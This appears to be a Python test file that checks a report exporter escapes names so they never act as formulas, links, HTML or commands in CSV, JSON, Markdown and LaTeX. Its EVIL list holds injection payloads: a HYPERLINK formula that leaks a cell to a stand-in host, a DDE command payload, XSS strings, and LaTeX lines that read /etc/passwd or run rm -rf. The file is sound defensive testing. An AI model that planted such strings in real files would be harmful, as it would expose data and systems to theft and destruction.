"""F28: a name is never a formula, a link, a picture, HTML or a command, whatever the format."""

from __future__ import annotations

import csv
import html
import io
import json
import math
import re
import shutil
import subprocess
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from harness.report.sheet import (
    Cell,
    Sheet,
    csv_text,
    json_text,
    latex_tabular,
    latex_text,
    markdown_table,
    markdown_text,
    visible,
)

GOLDEN = Path(__file__).with_name("golden")
EVIL = (
    '=HYPERLINK("http://evil.example/?"&A1,"harmless")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
    "'=1", "＝1+1", "![x](http://evil.example/beacon.png)", "[x](javascript:alert(1))", "http://evil.example",
    "www.evil.example", "<img src=x onerror=alert(1)>", "<!-- ", "&lt;b&gt;", "a|b", "a\\|b", "`code`", "**bold**",
    "_under_ $x^2$ #1 ~s~", "\\input{/etc/passwd}", "\\write18{rm -rf /}", "100 % & {more}", "a--b---c", "[3em]", "*",
    "line\nbreak", "\u202egnp.exe", "zero\u200bwidth", "null\x00", "telea[radius=9]", "naïve café", "名前", "", " x ",
    "\\",
)  # fmt: skip
words = st.text(st.characters(exclude_categories=["Cs"]), max_size=20) | st.sampled_from(EVIL)
shown = st.text(st.characters(exclude_categories=["Cs", "Cc", "Cf", "Zl", "Zp"]), max_size=20) | st.sampled_from(EVIL)
numbers = st.floats(allow_nan=False, allow_infinity=False) | st.integers(-(10**9), 10**9)


def sheet_of(*texts: str) -> Sheet:
    return Sheet(("name", "value", "note"), tuple((text, k * 0.5, None) for k, text in enumerate(texts)))


# ---- CSV


def read_csv(text: str) -> list[list[str]]:
    """What a reader that knows of the apostrophe sees."""
    read = list(csv.reader(io.StringIO(text, newline="")))
    trigger = tuple("=+-@\t\r\n＝＋－＠")
    return [[c[1:] if c[:1] == "'" and c.lstrip("'").startswith(trigger) else c for c in row] for row in read]


@settings(deadline=None)
@given(st.lists(st.tuples(words, words), min_size=1, max_size=4))
def test_csv_gives_every_cell_back(cells: list[tuple[str, str]]) -> None:
    sheet = Sheet(("a", "b"), tuple(cells))
    assert read_csv(csv_text(sheet)) == [["a", "b"], *map(list, cells)]


@settings(deadline=None)
@given(words)
def test_no_text_of_a_csv_begins_a_formula(text: str) -> None:
    [_, [cell, _]] = csv.reader(io.StringIO(csv_text(Sheet((text, "b"), ((text, 1),))), newline=""))
    assert not cell.startswith(tuple("=+-@\t\r\n"))


@given(numbers)
def test_numbers_of_a_csv_stay_numbers(value: float) -> None:
    [_, [cell, other]] = csv.reader(io.StringIO(csv_text(Sheet(("a", "b"), ((value, "x"),)))))
    assert float(cell) == value
    assert other == "x"


@pytest.mark.parametrize(
    ("cell", "shown"), [(math.nan, ""), (math.inf, ""), (None, ""), (True, "true"), (-0.5, "-0.5"), ("-0.5", "'-0.5")]
)
def test_what_a_csv_cell_holds(cell: Cell, shown: str) -> None:
    assert csv_text(Sheet(("a", "b"), ((cell, 1),))) == f"a,b\n{shown},1\n"


def test_half_of_a_character_from_a_file_name_does_not_end_an_export() -> None:
    sheet = sheet_of("file\udcff.png")
    for write in (csv_text, markdown_table, latex_tabular):
        assert "file<U+DCFF>.png" in html.unescape(
            write(sheet).replace(r"\textless{}", "<").replace(r"\textgreater{}", ">")
        )
        write(sheet).encode()
    assert json.loads(json_text(sheet.records()))[0]["name"] == "file\udcff.png"


# ---- JSON


@settings(deadline=None)
@given(st.lists(st.tuples(words, numbers | st.none() | st.booleans()), max_size=4))
def test_json_gives_every_cell_back_in_ascii(cells: list[tuple[str, Cell]]) -> None:
    text = json_text(Sheet(("a", "b"), tuple(cells)).records())
    assert text.isascii()
    assert [tuple(row.values()) for row in json.loads(text)] == cells


def test_json_has_no_nan() -> None:
    assert json.loads(json_text({"x": [math.nan, math.inf, 1.0]}), parse_constant=pytest.fail) == {
        "x": [None, None, 1.0]
    }


# ---- Markdown


def render(text: str) -> tuple[list[list[str]], str]:
    """Cells and HTML as a Markdown reader of its own makes them."""
    page = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)
    lines = re.findall(r"<tr>\n(.*?)</tr>", page, re.DOTALL)
    return [
        [html.unescape(c) for c in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", line, re.DOTALL)] for line in lines
    ], page


def inside(page: str) -> set[str]:
    return set(re.findall(r"<(\w+)", page))


@settings(deadline=None, max_examples=200)
@given(shown, shown)
@example("a|", "\\|")
@example("`", "`")
def test_a_markdown_table_shows_every_cell_as_it_is(first: str, second: str) -> None:
    cells, page = render(markdown_table(Sheet(("a", "b"), ((first, second), ("x", "y")))))
    assert len(cells) == 3
    assert [c.strip() for c in cells[1]] == [visible(first).strip(), visible(second).strip()]
    assert cells[2] == ["x", "y"]
    assert inside(page) <= {"table", "thead", "tbody", "tr", "th", "td"}


@pytest.mark.parametrize("name", EVIL)
def test_no_name_acts_in_a_markdown_page(name: str) -> None:
    page = MarkdownIt("commonmark").render(f"### {markdown_text(name)}\n\n- {markdown_text(name)}\n")
    assert inside(page) <= {"h3", "ul", "li"}
    assert not re.search(r"(?i)https?://|www\.|ftp://|mailto:", markdown_text(name)), (
        "GitHub makes bare addresses links"
    )


def test_bold_cells_are_bold_and_still_escaped() -> None:
    sheet = Sheet(("a",), (("a*b|c",),), frozenset({(0, 0)}))
    assert markdown_table(sheet).splitlines()[-1] == r"| **a\*b&#124;c** |"
    assert r"\textbf{a{*}b\textbar{}c} \\" in latex_tabular(sheet)


# ---- LaTeX

_ESCAPED = re.compile(r"\\text[a-z]+\{\}|\\ldots\{\}|\\[{}$&#%_]|\$-\$|\$\\[a-z]+\$|\{[\[\]*`]\}|-\{\}")


@settings(deadline=None, max_examples=200)
@given(words)
def test_latex_has_no_special_character_left(text: str) -> None:
    rest = _ESCAPED.sub("", latex_text(text))
    assert not set(rest) & set("\\{}$&#%_^~<>|[]*`"), rest
    assert "--" not in rest
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in rest)


def test_a_negative_number_has_a_minus() -> None:
    assert "$-$1.5" in latex_tabular(Sheet(("a",), ((-1.5,),)))


def test_latex_compiles(tmp_path: Path) -> None:
    if shutil.which("pdflatex") is None:
        pytest.skip("no pdflatex here")
    latin = [name for name in EVIL if all(ord(c) < 0x250 or not c.isprintable() for c in name)]
    body = latex_tabular(sheet_of(*latin))
    page = f"\\documentclass{{article}}\\usepackage{{booktabs}}\\begin{{document}}\n{body}\\end{{document}}\n"
    (tmp_path / "page.tex").write_text(page)
    command = ["pdflatex", "-no-shell-escape", "-halt-on-error", "page.tex"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stdout[-2000:]


# ---- golden


@pytest.mark.parametrize(
    ("name", "write"),
    [
        ("evil.csv", csv_text), ("evil.md", markdown_table), ("evil.tex", latex_tabular),
        ("evil.json", lambda sheet: json_text(sheet.records())),
    ],
)  # fmt: skip
def test_evil_names_are_written_as_they_were_looked_at(name: str, write: object) -> None:
    assert callable(write)
    assert write(sheet_of(*EVIL)).encode() == (GOLDEN / name).read_bytes()
